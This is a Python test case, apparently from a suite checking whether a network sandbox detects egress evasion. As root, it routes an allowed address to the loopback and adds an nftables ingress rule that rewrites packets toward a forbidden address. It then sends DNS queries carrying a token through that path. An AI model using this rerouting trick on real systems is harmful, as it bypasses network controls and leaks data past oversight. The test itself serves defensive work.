#!/usr/bin/python3
# id: b28_loopback_forward
# title: the allowed address routed to the loopback, whose ingress chain rewrites and forwards the packet to the link
# needs: root
# expect: detect
# why: what passed the loopback belongs to no socket; no interface is made and no sysctl set
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
import subprocess
def f():
    subprocess.run(f'ip route add {ALLOW}/32 dev lo src {myip()} && nft add table netdev bpl && nft "add chain netdev bpl i {{ type filter hook ingress device lo priority 0 ; }}" && nft add rule netdev bpl i ip daddr {ALLOW} udp dport 53 ip daddr set {FORB} fwd to v0', shell=True, check=True)
    try:
        for _ in range(3): socket.socket(type=socket.SOCK_DGRAM).sendto(dnsq(f'{TOK}.{ANAME}'), (ALLOW, 53)); time.sleep(.2)
    finally: subprocess.run(f'nft delete table netdev bpl; ip route del {ALLOW}/32 dev lo', shell=True)
attempt(f, chan=('dns', 'pkt'))
